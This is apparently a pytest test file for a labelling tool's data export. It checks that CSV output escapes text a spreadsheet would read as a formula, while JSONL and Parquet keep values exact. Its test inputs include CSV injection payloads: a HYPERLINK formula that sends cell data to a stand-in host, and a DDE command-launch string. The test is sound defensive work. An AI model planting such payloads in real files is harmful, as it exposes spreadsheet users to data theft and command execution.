"""Labels as a table: exact where a program reads them, and safe where a spreadsheet does."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pyarrow.parquet as pq
import pytest

from activate_va.sessions.export import export
from activate_va.sessions.state import Placement, SessionState, Status

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"cat")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
)
HARMLESS = ("cat", "5", "a=b", "c-d", "'quoted'", "e\nf", "g\r=1")


def labelled(begun: SessionState, classes: int, actor: str = "person") -> SessionState:
    """A sample of each class, all placed at a height that a careless hand would take for a formula, were it text."""
    at = datetime(2026, 1, 1, tzinfo=UTC)
    board = {
        index: Placement(
            sample_id=index,
            status=Status.HAND_LABELLED,
            class_index=index,
            confidence=-0.0,
            actor=actor,
            prediction=None,
            predicted_by=None,
            selection_scheme=None,
            selected_seq=1,
            labelled_seq=2,
            selected_at=at,
            changed_at=at,
        )
        for index in range(classes)
    }
    return begun.model_copy(update={"board": board})


def read_csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def of(rows: list[Any], column: str) -> list[Any]:
    return [row[column] for row in rows]


def test_texts_that_are_formulas_are_quoted_in_csv_only(begun: SessionState) -> None:
    state = labelled(begun, len(HOSTILE), "=cmd|' /C calc'!A0")
    rows = read_csv(export(state, HOSTILE, "csv"))
    assert of(rows, "class_name") == [f"'{name}" for name in HOSTILE]
    assert {*of(rows, "annotator")} == {"'=cmd|' /C calc'!A0"}
    lines = [json.loads(line) for line in export(state, HOSTILE, "jsonl").decode().split("\n")[:-1]]
    table = pq.read_table(io.BytesIO(export(state, HOSTILE, "parquet"))).to_pylist()
    assert of(lines, "class_name") == of(table, "class_name") == list(HOSTILE)
    assert {*of(lines, "annotator"), *of(table, "annotator")} == {"=cmd|' /C calc'!A0"}


def test_numbers_and_other_texts_stay_as_they_are(begun: SessionState) -> None:
    rows = read_csv(export(labelled(begun, len(HARMLESS)), HARMLESS, "csv"))
    assert of(rows, "class_name") == list(HARMLESS)
    assert {*of(rows, "confidence")} == {"-0.0"}
    assert {*of(rows, "labelled_at")} == {"2026-01-01T00:00:00+00:00"}
    assert of(rows, "class_index") == [str(index) for index in range(len(HARMLESS))]


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_without_labels_there_are_no_rows(begun: SessionState, kind: str) -> None:
    assert len(export(begun, HARMLESS, kind).splitlines()) == (kind == "csv")
